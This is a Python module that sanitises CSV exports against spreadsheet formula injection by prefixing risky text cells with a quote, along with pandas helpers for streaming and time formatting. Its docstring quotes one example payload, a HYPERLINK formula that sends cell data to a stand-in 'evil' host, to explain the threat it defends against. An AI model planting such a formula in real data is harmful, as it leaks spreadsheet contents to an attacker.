"""CSV that is safe to open in a spreadsheet: the one way every export writes CSV.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
spreadsheets skip before looking for one) is run as a formula by Excel, LibreOffice and Google
Sheets: an event title such as ``=HYPERLINK("http://evil/?"&A1)`` in a feed would leak the sheet
or run commands on the analyst's machine. Such text cells get a leading ``'`` (OWASP's advice),
which spreadsheets show as plain text. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence

import numpy as np
import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Mapping[str, object]], columns: Sequence[str]) -> str:
    """Rows (mappings by column name) as CSV text with a header line, every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([safe_cell(c) for c in columns])
    for row in rows:
        writer.writerow(["" if (v := row.get(c)) is None else safe_cell(v) for c in columns])
    return buffer.getvalue()


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell made safe (for ``dcc.send_data_frame``)."""
    out = frame.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):
            out[column] = _safe_column(out[column])
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def _safe_column(values: pd.Series) -> pd.Series:
    # A column at a time, not a Python call per cell (with minute_text, a 40,000-play export's
    # formatting went from 0.22 s to 0.13 s, interleaved medians). Only text cells match, as in
    # safe_cell; a column holding no text at all has no .str accessor.
    try:
        risky = values.str.startswith(FORMULA_STARTS, na=False).fillna(False).astype(bool)
    except AttributeError:
        return values.map(safe_cell)
    if not risky.any():
        return values
    values = values.astype(object)
    values[risky] = "'" + values[risky].astype(str)
    return values


def safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index) with every text cell and header made safe."""
    return safe_frame(frame).to_csv(index=False)


def safe_csv_chunks(frames: Iterable[pd.DataFrame]) -> Iterator[str]:
    """``frames`` (same columns) as the CSV text of one table, a piece per frame, for
    streaming: the header once (from the first frame, which may be empty), every cell made
    safe as in ``safe_csv``, so the pieces joined are ``safe_csv`` of the frames concatenated.
    """
    header = True
    for frame in frames:
        yield safe_frame(frame).to_csv(index=False, header=header, lineterminator="\n")
        header = False


def minute_text(values: pd.Series) -> pd.Series:
    """Naive (local) times as ``YYYY-MM-DD HH:MM`` text, a table's form; empty where missing.

    numpy formats the column at once: 26 ms for 40,000 times where ``Series.dt.strftime`` took 73.
    """
    if values.empty:  # numpy's string formatting has no answer for no times at all
        return pd.Series([], index=values.index, dtype=object)
    times = pd.to_datetime(values).to_numpy(dtype="datetime64[m]")
    text = np.char.replace(np.datetime_as_string(times, unit="m"), "T", " ")
    return pd.Series(np.where(np.isnat(times), "", text), index=values.index, dtype=object)
